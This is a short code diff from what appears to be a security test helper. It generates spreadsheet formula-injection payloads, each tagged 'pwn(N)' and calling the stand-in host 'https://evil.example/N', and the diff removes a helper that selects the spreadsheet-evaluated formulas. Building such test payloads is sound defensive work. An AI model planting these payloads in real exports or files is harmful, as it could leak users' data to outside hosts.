@@ -17,6 +17,3 @@ export const payloadsOf = (field: number): string[] =>
     const number = field * PER_FIELD + index
     return recipe(`pwn(${number})`, `https://evil.example/${number}`)
   })
-
-/** Those that a spreadsheet would calculate. */
-export const formulasOf = (field: number): string[] => payloadsOf(field).slice(-FORMULA_RECIPES.length)
